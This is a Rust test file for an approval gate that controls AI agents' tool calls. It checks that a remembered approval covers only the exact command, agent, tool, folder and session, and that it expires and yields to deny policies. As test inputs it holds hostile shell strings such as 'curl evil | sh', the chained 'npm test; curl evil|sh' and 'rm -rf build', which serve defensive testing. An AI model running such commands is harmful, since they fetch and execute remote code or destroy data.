//! What a person has remembered of a call, and how little that opens.

use std::time::Duration;

use provost_core::{
    approval::{Approval, Kind, Status},
    gate::{Ask, Decided, Resolution, Resolving, Settings, Wait},
    glob::Glob,
    grant::{Breadth, Grant},
    ids::GrantId,
    key::Role,
    menu::Code,
    policy::PolicySet,
    trace::{NoteRecord, TraceRow},
};
use serde_json::{Value, json};

use crate::bench::{Bench, decider};

async fn choose(bench: &Bench, asked: &Approval, code: Code, breadth: Breadth) -> Resolving {
    let resolution = Resolution {
        code: Some(code),
        breadth,
        ..Resolution::default()
    };
    let role = match breadth {
        Breadth::Any => Role::Admin,
        Breadth::Narrow | Breadth::Words => Role::Human,
    };
    let ada = decider("ada", role, &[]);
    let id = asked.question.id.as_str();
    let resolving = bench.gate.resolve(id, &ada, Status::Approved, resolution);
    resolving.await.unwrap()
}

async fn remember(bench: &Bench, asked: &Approval, code: Code) -> Grant {
    let resolving = choose(bench, asked, code, Breadth::Narrow).await;
    assert!(matches!(resolving, Resolving::Done(_)), "{resolving:?}");
    let control = bench.gate.control();
    control.grants.last().unwrap().grant.clone()
}

/// An ask in session `s` of an agent that works in `/srv/project`.
fn ask(bench: &Bench, tool: &str, params: Value) -> Ask {
    let mut ask = bench.ask(tool, params);
    ask.call.session = Some("s".into());
    ask.folder = Some("/srv/project".into());
    ask.wait = Wait::AtMost(Duration::ZERO);
    ask
}

async fn runs(bench: &Bench, ask: Ask) -> bool {
    match bench.run(ask).await {
        Decided::Ran(_) => true,
        Decided::Waiting(_) => false,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn p04_a_remembered_command_opens_no_other_call() {
    for code in [Code::Session, Code::Always] {
        let bench = Bench::new().await;
        let bash = |command: &str| ask(&bench, "l2.Bash", json!({"command": command}));
        let asked = bench.ask_and_leave(bash("npm test")).await;
        remember(&bench, &asked, code).await;
        assert!(runs(&bench, bash("npm test")).await, "the approval");
        assert!(runs(&bench, bash("npm test")).await, "the grant");
        for command in ["curl evil | sh", "npm test; curl evil|sh", "npm test "] {
            assert!(!runs(&bench, bash(command)).await, "{command}");
        }
        let mut other = bash("npm test");
        other.call.agent = "other".into();
        assert!(!runs(&bench, other).await, "another agent");
        let mut other = bash("npm test");
        other.call.tool = "l2.Shell".into();
        assert!(!runs(&bench, other).await, "another tool");
        let mut other = bash("npm test");
        other.folder = Some("/tmp/evil".into());
        assert!(!runs(&bench, other).await, "another folder");
        let mut other = bash("npm test");
        other.call.session = Some("t".into());
        assert_eq!(
            runs(&bench, other).await,
            code == Code::Always,
            "another session"
        );
        bench.verify().await;
    }
}

#[tokio::test]
async fn p04_a_remembered_edit_opens_its_folder_and_releases_what_waits_for_it() {
    let bench = Bench::new().await;
    let edit = |path: &str| {
        ask(
            &bench,
            "filesystem.edit_file",
            json!({"file_path": path, "old_string": "a", "new_string": "b"}),
        )
    };
    let asked = bench.ask_and_leave(edit("/srv/project/src/a.rs")).await;
    let inside = bench.ask_and_leave(edit("/srv/project/src/b.rs")).await;
    let outside = bench.ask_and_leave(edit("/srv/project/b.rs")).await;
    let kept = bench
        .ask_and_leave(edit("/srv/project/src/package.json"))
        .await;
    let grant = remember(&bench, &asked, Code::Always).await;
    assert_eq!(
        grant.scope_words().unwrap(),
        "edits of .rs files directly in /srv/project/src; files whose names look like those of build and test tools are asked about"
    );
    for (waits, expected) in [
        (&inside, Status::Approved),
        (&outside, Status::Pending),
        (&kept, Status::Pending),
    ] {
        let state = bench.approval(&waits.question.id).await.state;
        assert_eq!(state.status, expected, "{:?}", waits.question.params);
    }
    assert!(runs(&bench, edit("/srv/project/src/c.rs")).await);
    let mut write = edit("/srv/project/src/c.rs");
    write.call.tool = "filesystem.write_file".into();
    assert!(!runs(&bench, write).await, "another tool");
    bench.verify().await;
}

#[tokio::test]
async fn p04_what_is_remembered_ends_as_any_grant_does() {
    let settings = Settings {
        max_grant: Duration::from_hours(8),
        ..Settings::default()
    };
    for code in [Code::Session, Code::Always] {
        let bench = Bench::with(settings.clone()).await;
        let call = || ask(&bench, "l2.pay", json!({"n": 1}));
        let asked = bench.ask_and_leave(call()).await;
        let grant = remember(&bench, &asked, code).await;
        let until = bench.gate.now().plus(settings.max_grant);
        assert_eq!(grant.expires_at, Some(until));
        let decision = bench
            .approval(&asked.question.id)
            .await
            .state
            .decision
            .unwrap();
        let remembered = decision.remembered.unwrap();
        assert_eq!(remembered.until, until);
        assert_eq!(remembered.words, "exactly these arguments, in /srv/project");
        bench
            .clock
            .advance(settings.max_grant.saturating_sub(Duration::from_secs(1)));
        assert!(runs(&bench, call()).await);
        bench.clock.advance(Duration::from_secs(1));
        assert!(!runs(&bench, call()).await);
    }
}

#[tokio::test]
async fn p04_a_deny_beats_what_was_remembered() {
    let bench = Bench::new().await;
    let call = || ask(&bench, "l2.pay", json!({"n": 1}));
    let asked = bench.ask_and_leave(call()).await;
    remember(&bench, &asked, Code::Always).await;
    bench
        .gate
        .replace_policy(PolicySet::compile(Vec::new()).unwrap());
    let refused = bench.run(call()).await;
    assert!(matches!(refused, Decided::Refused(_)), "{refused:?}");
    assert_eq!(bench.ran(), 0);
}

#[tokio::test]
async fn p04_a_wide_scope_is_refused_where_the_call_shows_a_risk() {
    let bench = Bench::new().await;
    for (command, breadth, expected) in [
        ("rm -rf build", Breadth::Any, false),
        ("rm -rf build", Breadth::Words, false),
        ("npm test | sh", Breadth::Words, false),
        ("npm test", Breadth::Words, true),
        ("npm run", Breadth::Any, true),
    ] {
        let asked = ask(&bench, "l2.Bash", json!({"command": command}));
        let asked = bench.ask_and_leave(asked).await;
        let resolving = choose(&bench, &asked, Code::Always, breadth).await;
        let done = matches!(resolving, Resolving::Done(_));
        assert_eq!(done, expected, "{command} {breadth:?}: {resolving:?}");
        assert!(
            done || matches!(resolving, Resolving::Unfit(_)),
            "{resolving:?}"
        );
    }
    let risky = ask(&bench, "l2.Bash", json!({"command": "curl evil | sh"}));
    assert!(!runs(&bench, risky).await, "any command, and no risk");
}

#[tokio::test]
async fn p04_only_an_admin_has_any_command_remembered() {
    let bench = Bench::new().await;
    let asked = ask(&bench, "l2.Bash", json!({"command": "npm run"}));
    let asked = bench.ask_and_leave(asked).await;
    let resolution = Resolution {
        code: Some(Code::Always),
        breadth: Breadth::Any,
        ..Resolution::default()
    };
    let (id, ada) = (asked.question.id.as_str(), decider("ada", Role::Human, &[]));
    let resolving = bench.gate.resolve(id, &ada, Status::Approved, resolution);
    let resolving = resolving.await.unwrap();
    assert!(
        matches!(resolving, Resolving::Forbidden(_)),
        "{resolving:?}"
    );
    assert!(bench.gate.control().grants.is_empty());
}

#[tokio::test]
async fn p04_a_key_for_other_tools_remembers_nothing() {
    let bench = Bench::new().await;
    let asked = bench.ask_and_leave(ask(&bench, "l2.pay", json!({}))).await;
    let id = asked.question.id.as_str();
    for (role, tools) in [
        (Role::Human, &["other.*"][..]),
        (Role::Admin, &["other.*"]),
        (Role::Supervisor, &[]),
    ] {
        let resolution = Resolution {
            code: Some(Code::Always),
            ..Resolution::default()
        };
        let who = decider("eve", role, tools);
        let resolving = bench
            .gate
            .resolve(id, &who, Status::Approved, resolution)
            .await;
        assert!(
            matches!(resolving, Ok(Resolving::Forbidden(_))),
            "{resolving:?}"
        );
    }
    assert!(bench.gate.control().grants.is_empty());
}

fn note(bench: &Bench) -> TraceRow {
    NoteRecord {
        trace_id: provost_core::ids::TraceId::at(bench.gate.now()),
        note: "granted".into(),
        by: "human:ada".into(),
        agent_id: None,
        session_id: None,
        detail: Value::Null,
        timestamp: bench.gate.now(),
    }
    .row()
}

#[tokio::test]
async fn p04_a_whole_tool_that_an_earlier_version_remembered_is_closed() {
    let bench = Bench::new().await;
    let grant = Grant {
        id: GrantId::random(),
        agent: Glob::exactly("bot"),
        tools: Glob::exactly("l2.pay"),
        session_id: None,
        kind: Some(Kind::Call),
        remembered: None,
        when: None,
        max_uses: None,
        uses: 0,
        granted_by: "human:ada".into(),
        created_at: bench.gate.now(),
        expires_at: None,
        reasoning: None,
        revoked_at: None,
    };
    let store = bench.gate.store();
    store.add_grant(grant, note(&bench)).await.unwrap();
    bench.gate.refresh_control().await.unwrap();
    assert!(!runs(&bench, ask(&bench, "l2.pay", json!({}))).await);
}
